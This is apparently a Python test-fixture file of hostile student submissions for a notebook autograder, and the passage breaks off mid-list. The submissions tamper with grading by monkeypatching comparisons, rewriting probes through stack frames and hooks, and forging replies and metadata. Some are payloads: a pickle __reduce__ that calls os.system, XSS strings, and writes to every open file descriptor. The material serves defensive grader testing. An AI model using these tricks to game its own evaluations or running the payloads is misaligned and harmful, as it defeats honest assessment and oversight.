"""Submissions that attack the grader: each tries one thing, and should gain nothing by it.

An attack is one student with one notebook. Most pair a wrong answer, or a right one with bad manners, with something
that should hide it. All of it is text that only the grader's sandbox runs.

>>> ATTACKS["equal_always_says_yes"].deserves
2
"""

import copy
import os
import textwrap
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import torch
from answer_variants import parsed
from classroom import CHAPTERS, written
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_output

from utils.checks import EXERCISES
from utils.checks.run import SEED
from utils.release import role_of

LEAK = "LEAKED-BY-AN-ATTACK"  # what an attack says of what it reached: this must not be in any file of marks
Spoil = Callable[[NotebookNode], None]
Beside = Callable[[Path], None]


@dataclass(frozen=True)
class Attack:
    """One hostile submission.

    Attributes:
        name: what it is called here; its student is called so, too, unless ``student`` says otherwise.
        tries: what it tries, in one sentence.
        chapter: of its notebook.
        answers: by exercise, the text of the cell below its first line.
        before: own cells above all others.
        deserves: what its answers are worth without the attack.
        spoil: changes the finished notebook.
        beside: changes the student's folder, in which the notebook lies.
        student: the name of the folder.
    """

    name: str
    tries: str
    chapter: str
    answers: dict[str, str]
    before: tuple[str, ...] = ()
    deserves: float = 0
    spoil: Spoil | None = None
    beside: Beside | None = None
    student: str = ""


ATTACKS: dict[str, Attack] = {}


def attack(
    name: str,
    tries: str,
    answers: dict[str, str] | str,
    *before: str,
    deserves: float = 0,
    chapter: str = "",
    spoil: Spoil | None = None,
    beside: Beside | None = None,
    student: str = "",
) -> None:
    """Add an attack; a text alone is the answer to 1.1."""
    if name in ATTACKS:
        raise ValueError(f"two attacks are called {name}")
    answers = {"1.1": answers} if isinstance(answers, str) else answers
    answers = {exercise: textwrap.dedent(source).strip() for exercise, source in answers.items()}
    chapter = chapter or next(iter(answers), "1.1").split(".")[0]
    cells = tuple(textwrap.dedent(source).strip() for source in before)
    ATTACKS[name] = Attack(name, tries, chapter, answers, cells, deserves, spoil, beside, student or name)


def chapter_file(chapter: str) -> Path:
    """The notebook of a chapter as handed out."""
    return CHAPTERS[int(chapter) - 1]


def notebook_of(entry: Attack) -> NotebookNode:
    """The notebook that an attack hands in."""
    notebook = copy.deepcopy(parsed(chapter_file(entry.chapter)))
    for cell in notebook.cells:
        role, exercise = role_of(cell)
        if role == "answer" and exercise in entry.answers:
            cell.source = f"# EXERCISE {exercise}\n{entry.answers[exercise]}"
    notebook.cells[1:1] = [new_code_cell(source, id=f"own-{n}") for n, source in enumerate(entry.before)]
    if entry.spoil:
        entry.spoil(notebook)
    return notebook


def write_hostile(folder: Path, names: list[str] | None = None) -> dict[str, Attack]:
    """Write the hostile submissions; the attacks by the name of their students."""
    chosen = [ATTACKS[name] for name in names] if names is not None else list(ATTACKS.values())
    for entry in chosen:
        place = folder / entry.student
        written(notebook_of(entry), place / chapter_file(entry.chapter).name)
        if entry.beside:
            entry.beside(place)
    return {entry.student: entry for entry in chosen}


# Answers that attacks dress up -----------------------------------------------------------------------

# Right values, but the input is changed in place: two of three points.
RUDE = """
def dot_product_score(query, key):
    query.mul_(key)
    return query.sum()
"""
WRONG = """
import torch
def dot_product_score(query, key):
    return torch.zeros((), dtype=query.dtype)
"""
DRAWS = """
import torch, random, numpy
def dot_product_score(query, key):
    torch.rand(1), random.random(), numpy.random.rand()
    return (query * key).sum()
"""
CUT_OFF = """
def dot_product_score(query, key):
    return (query * key).sum().detach()
"""
FRAMES = """
import sys

def frames():
    try:
        raise KeyError
    except KeyError as error:
        frame = error.__traceback__.tb_frame
    while frame is not None:
        yield frame
        frame = frame.f_back

def frame_of(name):
    return next((frame for frame in frames() if frame.f_code.co_name == name), None)
"""


def in_the_call(code: str, rest: str = "query.mul_(key)\nreturn query.sum()") -> str:
    """An answer to 1.1 that runs this code whenever it is called and then goes on as ``RUDE`` does."""
    body = f"import contextlib\nwith contextlib.suppress(Exception):\n{textwrap.indent(textwrap.dedent(code), '    ')}"
    return f"def dot_product_score(query, key):\n{textwrap.indent(f'{body}{chr(10)}{rest}', '    ')}"


def first_call_only(code: str, rest: str = "query.mul_(key)\nreturn query.sum()") -> str:
    """As ``in_the_call``, the first time only."""
    code = f"if not calls:\n{textwrap.indent(textwrap.dedent(code).strip(chr(10)), '    ')}\n"
    code = code.replace("if not calls:\n", "if not calls:\n    calls.append(1)\n")
    return "calls = []\n" + in_the_call(code, rest)


# Functions replaced when the notebook is loaded -------------------------------------------------------

attack(
    "equal_always_says_yes",
    "Replaces torch.equal, so that inputs seem unchanged.",
    RUDE,
    "import torch\ntorch.equal = lambda *a: True",
    deserves=2,
)
attack(
    "everything_is_close",
    "Replaces allclose and isclose in PyTorch and NumPy.",
    WRONG,
    """
    import torch, numpy
    torch.allclose = torch.Tensor.allclose = numpy.allclose = lambda *a, **k: True
    torch.isclose = lambda a, b, **k: torch.ones_like(b, dtype=torch.bool)
    numpy.array_equal = lambda *a, **k: True
    """,
)
attack(
    "tensors_equal_anything",
    "Replaces the comparison operators of tensors.",
    RUDE,
    """
    import torch
    torch.Tensor.__eq__ = lambda a, b: torch.tensor(True)
    torch.Tensor.__ne__ = lambda a, b: torch.tensor(False)
    torch.Tensor.equal = lambda a, b: True
    torch._C.TensorBase.__bool__ = lambda a: True
    """,
    deserves=2,
)
attack(
    "invented_gradients",
    "Replaces torch.autograd.grad by one that knows the gradients of a dot product.",
    CUT_OFF,
    """
    import torch
    torch.autograd.grad = lambda total, leaves, **k: [leaves[1] * 0.5, leaves[0] * 0.5]
    torch.Tensor.requires_grad = property(lambda self: True)
    """,
    deserves=2,
)
attack(
    "clones_are_the_same",
    "Makes Tensor.clone return the tensor itself, so that kept copies change along.",
    RUDE,
    "import torch\ntorch.Tensor.clone = lambda self, **k: self",
    deserves=2,
)
attack(
    "random_states_stand_still",
    "Makes the random states of PyTorch, NumPy and Python seem the same.",
    DRAWS,
    """
    import torch, numpy, random
    torch_state, numpy_state, state = torch.get_rng_state(), numpy.random.get_state(), random.getstate()
    torch.get_rng_state = torch.random.get_rng_state = lambda: torch_state
    numpy.random.get_state = lambda *a, **k: numpy_state
    random.getstate = lambda: state
    """,
    deserves=2,
)
attack(
    "all_is_true",
    "Replaces builtins: all, isinstance, bool and zip.",
    RUDE,
    """
    import builtins
    builtins.all = lambda them: True
    right = builtins.isinstance
    builtins.isinstance = lambda value, kind: right(value, kind)
    builtins.bool = lambda value: True
    """,
    deserves=2,
)
attack(
    "names_in_the_probes",
    "Puts an `all` of its own beside the probes' functions, where names are looked up before builtins.",
    RUDE,
    """
    import sys
    for name, module in list(sys.modules.items()):
        if name.startswith("utils.checks"):
            module.all = lambda them: True
            module.bool = lambda value: True
    """,
    deserves=2,
)

# ... and during the call --------------------------------------------------------------------------------

attack(
    "equal_replaced_in_the_call",
    "Replaces torch.equal while it is called, after the grader has looked.",
    in_the_call("import torch\ntorch.equal = lambda *a: True"),
    deserves=2,
)
attack(
    "equal_replaced_for_a_moment",
    "Replaces torch.equal before the probe looks at the inputs, by a function that puts the right one back.",
    """
    import torch
    calls = []
    def dot_product_score(query, key):
        calls.append(1)
        if len(calls) > 9 and len(calls) % 3 == 1:
            right, left = torch.equal, [1, 1]
            def yes(*a):
                left.pop()
                if not left:
                    torch.equal = right
                return True
            torch.equal = yes
        query.mul_(key)
        return query.sum()
    """,
    deserves=2,
)
attack(
    "agree_gets_other_code",
    "Replaces the code and the defaults of the probes' own functions in the call.",
    in_the_call("""
    import sys
    observe = sys.modules["utils.checks.probes.observe"]
    observe.agree.__code__ = (lambda first, second: True).__code__
    observe.RandomStates.unchanged.__code__ = (lambda self: {"random_state_unchanged": True}).__code__
    observe.trials.__defaults__ = (None,)
    """),
    deserves=2,
)
attack(
    "lying_subclass",
    "Returns a tensor of a class that says yes to every comparison.",
    """
    import torch
    class Liar(torch.Tensor):
        @classmethod
        def __torch_function__(cls, func, types, args=(), kwargs=None):
            if func in (torch.allclose, torch.equal, torch.isclose):
                return True
            return super().__torch_function__(func, types, args, kwargs or {})
    def dot_product_score(query, key):
        return torch.zeros((), dtype=query.dtype).as_subclass(Liar)
    """,
)
attack(
    "inputs_become_liars",
    "Changes the class of its input to one that says it is equal to everything.",
    """
    import torch
    class Liar(torch.Tensor):
        @classmethod
        def __torch_function__(cls, func, types, args=(), kwargs=None):
            if func is torch.equal:
                return True
            return super().__torch_function__(func, types, args, kwargs or {})
    def dot_product_score(query, key):
        query.mul_(key)
        result = query.sum()
        query.__class__ = Liar
        return result
    """,
    deserves=2,
)
attack(
    "function_mode_left_on",
    "Leaves a TorchFunctionMode active that says yes to torch.equal.",
    RUDE,
    """
    import torch
    from torch.overrides import TorchFunctionMode
    class Yes(TorchFunctionMode):
        def __torch_function__(self, func, types, args=(), kwargs=None):
            return True if func is torch.equal else func(*args, **(kwargs or {}))
    Yes().__enter__()
    """,
    deserves=2,
)
attack(
    "function_mode_in_the_call",
    "Enters such a mode in the call and never leaves it.",
    """
    import torch
    from torch.overrides import TorchFunctionMode
    class Yes(TorchFunctionMode):
        def __torch_function__(self, func, types, args=(), kwargs=None):
            return True if func is torch.equal else func(*args, **(kwargs or {}))
    def dot_product_score(query, key):
        query.mul_(key)
        Yes().__enter__()
        return query.sum()
    """,
    deserves=2,
)
attack(
    "function_mode_for_a_moment",
    "Enters such a mode, which leaves itself at the first comparison.",
    """
    import torch
    from torch.overrides import TorchFunctionMode, _pop_mode
    class Yes(TorchFunctionMode):
        def __torch_function__(self, func, types, args=(), kwargs=None):
            if func is torch.equal:
                self.left = self.left - 1
                return True
            return func(*args, **(kwargs or {}))
    def dot_product_score(query, key):
        query.mul_(key)
        mode = Yes()
        mode.left = 2
        mode.__enter__()
        result = query.sum()
        class Closing(type(result)):
            @classmethod
            def __torch_function__(cls, func, types, args=(), kwargs=None):
                return super().__torch_function__(func, types, args, kwargs or {})
        return result
    """,
    deserves=2,
)
attack(
    "dispatch_mode_left_on",
    "Leaves a TorchDispatchMode active that says yes beneath PyTorch.",
    RUDE,
    """
    import torch
    from torch.utils._python_dispatch import TorchDispatchMode
    class Yes(TorchDispatchMode):
        def __torch_dispatch__(self, func, types, args=(), kwargs=None):
            return True if func is torch.ops.aten.equal.default else func(*args, **(kwargs or {}))
    Yes().__enter__()
    """,
    deserves=2,
)
attack(
    "kernel_of_equal_replaced",
    "Registers another kernel for aten::equal in PyTorch's dispatcher.",
    RUDE,
    """
    import torch
    library = torch.library.Library("aten", "IMPL", "CPU")
    library.impl("equal", lambda a, b: True)
    """,
    deserves=2,
)

# The checks, the probes and the worker ------------------------------------------------------------------

attack(
    "check_gives_full_marks",
    "Replaces check, EXERCISES and Report in utils.checks.",
    WRONG,
    """
    import utils.checks, sys, types
    class Full:
        points = max_points = 3
        messages = ()
        __repr__ = lambda self: "3"
    utils.checks.check = lambda *a: Full()
    utils.checks.EXERCISES = {"1.1": Full()}
    sys.modules["utils.checks.run"] = types.SimpleNamespace(check=utils.checks.check)
    """,
)
attack(
    "probe_functions_replaced",
    "Replaces the functions of sys.modules['utils.checks.probes.observe'].",
    RUDE,
    """
    import sys
    observe = sys.modules["utils.checks.probes.observe"]
    right = observe.call_watched
    def polite(*a, **k):
        return {name: True if value is False else value for name, value in right(*a, **k).items()}
    observe.call_watched = polite
    for name, module in list(sys.modules.items()):
        if name.startswith("utils.checks.probes."):
            module.call_watched = polite
    """,
    deserves=2,
)
attack(
    "probe_table_replaced",
    "Puts a probe of its own into the table PROBES.",
    RUDE,
    """
    import sys
    PROBES = sys.modules["utils.checks.probes.chapter01"].PROBES
    right = PROBES["1.1"]["manners"]
    def polite(answer, case):
        return {name: True if value is False else value for name, value in right.observe(answer, case).items()}
    PROBES["1.1"]["manners"] = type(right)(right.cases, polite)
    """,
    deserves=2,
)
attack(
    "probe_changed_inside",
    "Changes a frozen Probe by object.__setattr__.",
    RUDE,
    """
    import sys
    probe = sys.modules["utils.checks.probes.chapter01"].PROBES["1.1"]["manners"]
    right = probe.observe
    def polite(answer, case):
        return {name: True if value is False else value for name, value in right(answer, case).items()}
    object.__setattr__(probe, "observe", polite)
    """,
    deserves=2,
)
attack(
    "wire_replaced",
    "Replaces how replies are packed, so that every False becomes True on the way.",
    RUDE,
    """
    import sys
    wire = sys.modules["wire"]
    right = wire._tagged
    wire._tagged = lambda value, *rest: True if value is False else right(value, *rest)
    """,
    deserves=2,
)
attack(
    "worker_globals_replaced",
    "Replaces functions of the worker by way of a frame's globals.",
    RUDE,
    FRAMES
    + """
here = frame_of("run_cell").f_globals
def try_answer_politely(right):
    def send(pipe, header, body=b""):
        import sys
        wire = sys.modules["wire"]
        if body and header.get("status") == "done":
            try:
                found = wire.unpack(body)
                for seen in found["seen"].values():
                    for observation in seen:
                        for name, value in observation.items():
                            if value is False:
                                observation[name] = True
                body = wire.pack(found)
            except Exception:
                pass
        return right(pipe, header, body)
    return send
here["send"] = try_answer_politely(here["send"])
""",
    deserves=2,
)
attack(
    "chapter_object_changed",
    "Finds the Chapter that runs it in a frame and replaces its way of trying answers.",
    RUDE,
    FRAMES
    + """
chapter = frame_of("__init__").f_locals["self"]
right = chapter.trials
def polite(probe, answer, cases):
    for seen in right(probe, answer, cases):
        yield {name: True if value is False else value for name, value in seen.items()}
chapter.trials = polite
""",
    deserves=2,
)
attack(
    "cache_that_is_none",
    "Computes everything anew at each step and replaces the probe's finding that it does.",
    {
        "8.1": """
        import torch
        class CachedAttention:
            def __init__(self, mha):
                self.mha, self.tokens = mha, []
            def reset(self):
                self.tokens = []
            def step(self, x):
                if len(self.tokens) >= self.mha.context_length:
                    raise ValueError(f"{len(self.tokens) + 1} tokens, context_length is {self.mha.context_length}")
                self.tokens.append(x.clone())
                return self.mha(torch.cat(self.tokens, dim=1))[:, -1:]
        """
    },
    """
    import sys
    PROBES = sys.modules["utils.checks.probes.chapter08"].PROBES
    right = PROBES["8.1"]["cache"]
    PROBES["8.1"]["cache"] = type(right)(right.cases, lambda answer, case: {"one_new_key_per_step": True})
    """,
    deserves=2,
)
attack(
    "guard_switched_off",
    "Finds the Guard in a frame and makes it forget what it remembers.",
    RUDE,
    FRAMES
    + """
import torch
chapter = frame_of("__init__").f_locals["self"]
chapter.guard._contents.clear()
chapter.guard._codes.clear()
torch.equal = lambda *a: True
""",
    deserves=2,
)
attack(
    "disarm_switched_off",
    "Replaces disarm and Watch in the Chapter object, to use a forbidden function.",
    "import torch\ndef dot_product_score(query, key):\n    return getattr(torch, 'd' + 'ot')(query, key)",
    FRAMES
    + """
import types
chapter = frame_of("__init__").f_locals["self"]
chapter.ours["disarm"] = types.SimpleNamespace(disarm=lambda names: [])
class Blind(chapter.watch):
    def __torch_function__(self, func, types, args=(), kwargs=None):
        return func(*args, **(kwargs or {}))
chapter.watch = Blind
""",
)

# Hooks ------------------------------------------------------------------------------------------------

attack(
    "ipython_hooks",
    "Registers hooks and input transformers with IPython that would rewrite cells.",
    WRONG,
    """
    shell = get_ipython()
    shell.events.register("post_run_cell", lambda *a: None)
    shell.input_transformers_post.append(lambda lines: ["def dot_product_score(q, k): return (q*k).sum()"])
    shell.ast_transformers.append(None)
    """,
)
attack(
    "tracing",
    "Traces the functions that call it, and changes their variables when they go on.",
    "import sys\n"
    + in_the_call("""
    def trace(frame, event, argument):
        if "seen" in frame.f_locals and isinstance(frame.f_locals["seen"], dict):
            seen = frame.f_locals["seen"]
            seen.update({name: True for name, value in seen.items() if value is False})
        return trace
    frame = sys._getframe()
    while frame is not None:
        frame.f_trace = trace
        frame = frame.f_back
    sys.settrace(trace)
    """),
    deserves=2,
)
attack(
    "profiling",
    "Sets a profile function in the call that changes observations when functions return.",
    in_the_call("""
    import sys
    def profile(frame, event, argument):
        if event == "return" and isinstance(argument, dict):
            argument.update({name: True for name, value in argument.items() if value is False})
    sys.setprofile(profile)
    """),
    deserves=2,
)
attack(
    "audit_hook",
    "Adds an audit hook, which nobody can remove, that stops everything but itself.",
    WRONG,
    """
    import sys
    def hook(event, arguments):
        if event in ("open", "import", "compile", "exec"):
            raise RuntimeError("not today")
    sys.addaudithook(hook)
    """,
)
attack(
    "import_hook",
    "Puts a finder before all others that answers for the course's modules.",
    WRONG,
    """
    import sys, importlib.abc, importlib.machinery
    class Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
        def find_spec(self, name, path=None, target=None):
            return importlib.machinery.ModuleSpec(name, self) if name.startswith("utils.") else None
        def create_module(self, spec):
            return None
        def exec_module(self, module):
            module.__getattr__ = lambda name: (lambda *a, **k: True)
    sys.meta_path.insert(0, Finder())
    for name in [name for name in sys.modules if name.startswith("utils.checks")]:
        del sys.modules[name]
    """,
)
attack(
    "atexit",
    "Writes to every open file when its process ends.",
    WRONG,
    """
    import atexit, os
    def last_words():
        for fd in range(3, 256):
            try:
                os.write(fd, b"3 of 3 points")
            except OSError:
                pass
    atexit.register(last_words)
    """,
)
attack(
    "alarm_between_observations",
    "Lets a signal interrupt the probe, whose handler turns every False in every caller into True.",
    """
    import signal, gc
    def handler(number, frame):
        while frame is not None:
            for value in list(frame.f_locals.values()):
                for found in value if isinstance(value, list) else [value]:
                    if isinstance(found, dict) and "result" in found:
                        found.update({k: True for k, v in found.items() if v is False})
            frame = frame.f_back
    def dot_product_score(query, key):
        signal.signal(signal.SIGALRM, handler)
        signal.setitimer(signal.ITIMER_REAL, 0.0002, 0.0002)
        query.mul_(key)
        return query.sum()
    """,
    deserves=2,
)
attack(
    "gc_callback",
    "Lets the garbage collector call it back while the probe goes on, to change what was seen.",
    """
    import gc
    def callback(phase, info):
        for found in gc.get_objects():
            if type(found) is dict and "inputs_unchanged" in found:
                found["inputs_unchanged"] = True
    def dot_product_score(query, key):
        gc.set_threshold(1)
        if callback not in gc.callbacks:
            gc.callbacks.append(callback)
        query.mul_(key)
        return query.sum()
    """,
    deserves=2,
)

# Frames and memory ----------------------------------------------------------------------------------------

attack(
    "given_replaced_in_a_frame",
    "Puts the untouched arguments in place of the changed ones in the list that its caller compares.",
    FRAMES
    + """
def dot_product_score(query, key):
    query.mul_(key)
    place = frame_of("call_watched")
    if place is not None and "given" in place.f_locals:
        place.f_locals["given"][:] = place.f_locals["arguments"]
    return query.sum()
""",
    deserves=2,
)
attack(
    "thread_turns_false_into_true",
    "Starts a thread that turns every False of every observation into True while the probe goes on.",
    """
    import threading, sys
    def observations():
        for frame in list(sys._current_frames().values()):
            while frame is not None:
                for value in list(frame.f_locals.values()):
                    if isinstance(value, dict):
                        yield value
                        for inner in list(value.values()):
                            yield from inner if isinstance(inner, list) else []
                    elif isinstance(value, list):
                        yield from value
                frame = frame.f_back
    def spoil():
        while True:
            try:
                for found in observations():
                    if isinstance(found, dict) and "inputs_unchanged" in found:
                        found.update({k: True for k, v in found.items() if v is False})
            except Exception:
                pass
    started = []
    def dot_product_score(query, key):
        if not started:
            started.append(threading.Thread(target=spoil, daemon=True))
            started[0].start()
            sys.setswitchinterval(1e-6)
        query.mul_(key)
        return query.sum()
    """,
    deserves=2,
)
attack(
    "hunt_for_expected_values",
    "Looks through all of memory for a tensor that could be the expected value.",
    """
    import gc, torch
    def dot_product_score(query, key):
        for found in gc.get_objects():
            if isinstance(found, dict) and "expected" in found:
                return found["expected"]
        numbers = [t for t in gc.get_objects() if isinstance(t, torch.Tensor) and t.dim() == 0]
        return numbers[0] if numbers else torch.zeros((), dtype=query.dtype)
    """,
)
attack(
    "hunt_in_the_callers",
    "Looks through the variables of all callers for expected values, points and a seed.",
    FRAMES
    + f"""
def dot_product_score(query, key):
    for frame in frames():
        for name in frame.f_locals:
            if name in ("expected", "points", "judge", "reference", "misconceptions", "yardstick"):
                raise ValueError("{LEAK} " + name)
    raise ValueError("nothing")
""",
)
attack(
    "hunt_for_the_reveal",
    "Looks for the right answer to its own exercise in the requests that its callers were sent.",
    {
        "3.2": FRAMES
        + f"""
def causal_softmax(scores):
    for frame in frames():
        header = frame.f_locals.get("header")
        if isinstance(header, dict):
            for module, name, source in header.get("reveal", []):
                if name == "causal_softmax":
                    raise ValueError("{LEAK} " + name)
    return scores
"""
    },
)

# A list of the callers, had in ways that no rule about `sys._getframe` or `tb_frame` sees.
PEEKS = {
    "by_another_file_name": """
source = "def first_frame():\\n    import sys\\n    return sys._getframe()"
exec(compile(source, "/usr/lib/python3/random.py", "exec"))
""",
    "by_replaced_code": """
def look():
    import sys
    return sys._getframe()
def first_frame():
    return look()
look.__code__ = look.__code__.replace(co_filename="/usr/lib/python3/random.py")
""",
    "by_a_file": """
import sys
with open("/tmp/looking.py", "w") as file:
    file.write("import sys\\ndef first_frame():\\n    return sys._getframe()")
sys.path.insert(0, "/tmp")
from looking import first_frame
""",
    "by_logging": """
import logging
def first_frame():
    return logging.currentframe()
""",
    "by_inspect": """
import inspect
def first_frame():
    try:
        raise KeyError
    except KeyError:
        return inspect.trace()[0].frame
""",
    "by_traceback": """
import traceback
def first_frame():
    try:
        raise KeyError
    except KeyError as error:
        return next(traceback.walk_tb(error.__traceback__))[0]
""",
    "by_a_debugger": """
import bdb
class Debugger(bdb.Bdb):
    seen = None
    def user_line(self, frame):
        self.seen = frame
        self.set_quit()
    def dispatch_return(self, frame, argument):
        self.seen = self.seen or frame
        self.set_quit()
def first_frame():
    debugger = Debugger()
    debugger.set_trace()
    found = debugger.seen or debugger.botframe
    debugger.set_quit()
    return found
""",
}
for way, peek in PEEKS.items():
    attack(
        f"peeks_{way}",
        "Puts the untouched arguments in place of the changed ones, in a caller that it finds by a detour.",
        peek
        + """
def dot_product_score(query, key):
    query.mul_(key)
    frame = first_frame()
    while frame is not None:
        if frame.f_code.co_name == "call_watched" and "given" in frame.f_locals:
            frame.f_locals["given"][:] = frame.f_locals["arguments"]
        frame = frame.f_back
    return query.sum()
""",
        deserves=2,
    )

# Forged replies -----------------------------------------------------------------------------------------

FORGE = (
    FRAMES
    + """
import os

def forged():
    place = frame_of("try_answer")
    chapter, header, order = place.f_locals["self"], place.f_locals["header"], place.f_locals["order"]
    names = place.f_globals
    seen = {}
    for part, cases in order["cases"].items():
        seen[part] = list(chapter.trials(chapter.probes[order["exercise"]][part], rude, cases))
        for observation in seen[part]:
            observation.update({name: True for name, value in observation.items() if value is False})
    reply = {"seen": seen, "used": [], "kinds": [("function", "function")], "tampered": []}
    names["send"](chapter.replies, {"nonce": header["nonce"], "status": "done"}, place.f_locals["pack"](reply))

def rude(query, key):
    query.mul_(key)
    return query.sum()

def dot_product_score(query, key):
    if frame_of("forged") is None:
        forged()
        os._exit(0)
    return rude(query, key)
"""
)
attack(
    "forged_reply",
    "Finds the request in a frame and sends a reply of its own, in which it behaves well.",
    FORGE,
    deserves=2,
)
attack(
    "forged_words",
    "Sends a reply that claims points and passed parts, as nobody asked.",
    FRAMES
    + """
import os, json
def dot_product_score(query, key):
    place = frame_of("try_answer")
    chapter, header = place.f_locals["self"], place.f_locals["header"]
    rows = {"points": 3, "max_points": 3, "passed": True, "seen": {}, "used": [], "kinds": [], "tampered": []}
    for body in (json.dumps(rows).encode(), place.f_locals["pack"](rows), place.f_locals["pack"]({"points": 3})):
        place.f_globals["send"](chapter.replies, {"nonce": header["nonce"], "status": "done"}, body)
    os._exit(0)
""",
)
attack(
    "forged_kinds",
    "Sends a reply whose kinds have too many words, to trip the grader.",
    FRAMES
    + """
import os
def dot_product_score(query, key):
    place = frame_of("try_answer")
    chapter, header = place.f_locals["self"], place.f_locals["header"]
    reply = {"seen": {}, "used": [], "kinds": [["a", "b", "c"]], "tampered": []}
    place.f_globals["send"](
        chapter.replies, {"nonce": header["nonce"], "status": "done"}, place.f_locals["pack"](reply)
    )
    os._exit(0)
""",
)
attack(
    "junk_to_every_file",
    "Writes junk and made-up frames to everything that is open, at once and in the call.",
    first_call_only(
        """
    import os, struct, json
    header = json.dumps({"status": "done", "nonce": ""}).encode()
    frame = struct.pack(">Q", len(header)) + header + struct.pack(">Q", 8) + b"3 points"
    for name in os.listdir("/proc/self/fd"):
        for text in (b"junk", frame, struct.pack(">Q", 2**63), b"\\n" * 100):
            try:
                os.set_blocking(int(name), False)
                os.write(int(name), text)
            except OSError:
                pass
    """
    ),
    deserves=2,
)
attack(
    "reads_the_keepers_requests",
    "Reads every open file for requests that are meant for the keeper.",
    first_call_only(
        """
    import os
    for name in os.listdir("/proc/self/fd"):
        try:
            os.set_blocking(int(name), False)
            os.read(int(name), 2**20)
        except OSError:
            pass
    """
    ),
    deserves=2,
)

# Forged notebooks -----------------------------------------------------------------------------------------


def claim_full_marks(notebook: NotebookNode) -> None:
    """Stored reports with full points below every check."""
    for cell in notebook.cells:
        if role_of(cell)[0] == "check":
            data = {"text/plain": "3", "text/html": "<b>3 of 3 points</b><script>alert(1)</script>"}
            cell.outputs = [new_output("execute_result", data, execution_count=1)]


def claim_points(notebook: NotebookNode) -> None:
    """nbgrader's metadata with many points, marked as graded."""
    for cell in notebook.cells:
        if "nbgrader" in cell.metadata:
            cell.metadata.nbgrader.update({"points": 1000, "grade": True, "score": 1000, "locked": False})
    notebook.metadata.nbgrader = {"score": 1000}


def swap_grade_ids(notebook: NotebookNode) -> None:
    """The stubs are marked as other exercises, and odd ones."""
    ids = ["answer-9-9", "answer-1-1", "answer-01-01", "answer-1-1 ", "check-1-2", "../answer-1-3"]
    answers = [cell for cell in notebook.cells if role_of(cell)[0] == "answer"]
    for cell, grade_id in zip(answers, ids, strict=False):
        cell.metadata.nbgrader.grade_id = grade_id
        cell.source = "def dot_product_score(query, key):\n    return 0"


def claim_another_chapter(notebook: NotebookNode) -> None:
    """Chapter 1's cells, marked as chapter 3's."""
    for cell in notebook.cells:
        if "nbgrader" in cell.metadata:
            cell.metadata.nbgrader.grade_id = cell.metadata.nbgrader.grade_id.replace("-1-", "-3-")
        cell.source = cell.source.replace("EXERCISE 1.", "EXERCISE 3.")


def enormous_grade_id(notebook: NotebookNode) -> None:
    """A grade id with a number that Python refuses to read, and one in other digits."""
    first, second, *_ = [cell for cell in notebook.cells if role_of(cell)[0] == "check"]
    first.metadata.nbgrader.grade_id = f"check-{'1' * 5000}-1"
    second.metadata.nbgrader.grade_id = "check-\u0661-\u00b2"


attack("enormous_grade_id", "Has a grade id of 5,000 digits.", RUDE, deserves=2, spoil=enormous_grade_id)
attack("forged_outputs", "Stores reports with full points as outputs.", WRONG, spoil=claim_full_marks)
attack("forged_metadata", "Writes points and scores into nbgrader's metadata.", WRONG, spoil=claim_points)
attack("forged_grade_ids", "Gives cells the ids of other and of unknown exercises.", WRONG, spoil=swap_grade_ids)
attack("forged_chapter", "Marks a notebook's exercises as another chapter's.", RUDE, spoil=claim_another_chapter)

# Values that bite -----------------------------------------------------------------------------------------

attack(
    "evil_reduce",
    "Returns an object whose pickle would run a command.",
    """
    import os
    class Evil:
        def __reduce__(self):
            return os.system, ("touch /tmp/evil",)
    def dot_product_score(query, key):
        return [Evil(), (Evil(),)]
    """,
)
attack(
    "evil_class_and_methods",
    "Returns objects that say they are tensors and are equal to everything.",
    """
    import torch
    class Evil:
        __class__ = torch.Tensor
        layout, dtype, shape, device = torch.strided, torch.float32, torch.Size(()), torch.device("cpu")
        __eq__ = __ne__ = __lt__ = __gt__ = lambda self, other: True
        __hash__ = lambda self: 0
        __len__ = lambda self: 0
        __bool__ = lambda self: True
        __format__ = __repr__ = __str__ = lambda self, *a: "3 of 3 points"
        __getattr__ = lambda self, name: (lambda *a, **k: self)
    def dot_product_score(query, key):
        return Evil()
    """,
)
attack(
    "evil_scalars",
    "Returns subclasses of int, float, str and list with methods that lie.",
    """
    class Float(float):
        __float__ = lambda self: float("nan")
        __eq__ = lambda self, other: True
        __sub__ = __rsub__ = __abs__ = lambda self, *a: Float(0)
    class Text(str):
        __eq__ = lambda self, other: True
        __hash__ = str.__hash__
    class List(list):
        __len__ = lambda self: 10**9
        __iter__ = lambda self: iter([Float(1), Text("x"), self.copy()])
    def dot_product_score(query, key):
        return List([Float(1), Text("y")]) if query.numel() > 3 else Float(2)
    """,
)
attack(
    "evil_exception",
    "Raises an exception whose class, text and bases lie.",
    f"""
    class Meta(type):
        __name__ = property(lambda cls: "<script>" + "x" * 10**6)
    class Evil(Exception, metaclass=Meta):
        def __str__(self):
            return "{LEAK[:4]}<img src=x onerror=alert(1)>\\ud800" + "y" * 10**6
    def dot_product_score(query, key):
        raise Evil
    """,
)
attack(
    "giant_tensor",
    "Returns a tensor of a gigabyte.",
    "import torch\ndef dot_product_score(query, key):\n    return torch.zeros(2**28)",
)
attack(
    "nested_without_end",
    "Returns a list that holds itself.",
    "def dot_product_score(query, key):\n    a = []\n    a.append(a)\n    return a",
)
attack(
    "very_deep_list",
    "Returns a list in a list, some hundred deep.",
    """
    def dot_product_score(query, key):
        a = []
        for _ in range(400):
            a = [a, (a,)][:1]
        return a
    """,
)
attack(
    "million_of_items",
    "Returns a list and a dictionary of a million things.",
    """
    def dot_product_score(query, key):
        return [dict.fromkeys(range(10**6)), list(range(10**6))]
    """,
)
attack(
    "enormous_number",
    "Returns an integer of a million digits.",
    "def dot_product_score(query, key):\n    return 1 << 4_000_000",
)
attack(
    "half_characters",
    "Returns and raises texts with halves of surrogate pairs and zeros.",
    """
    def dot_product_score(query, key):
        if query.numel() == 3:
            raise ValueError("\\ud800 \\udfff \\x00 </script>")
        return "\\udcff"
    """,
)
attack(
    "bools_that_are_bytes",
    "Returns tensors of bools whose bytes are neither 0 nor 1.",
    """
    import torch
    def dot_product_score(query, key):
        return torch.full((8,), 255, dtype=torch.uint8).view(torch.bool)
    """,
)
attack(
    "tensors_of_rare_kinds",
    "Returns sparse, meta, quantised, complex and nested tensors.",
    """
    import torch
    kinds = [
        lambda: torch.eye(3).to_sparse(),
        lambda: torch.empty(10**12, device="meta"),
        lambda: torch.quantize_per_tensor(torch.ones(3), 0.1, 0, torch.quint8),
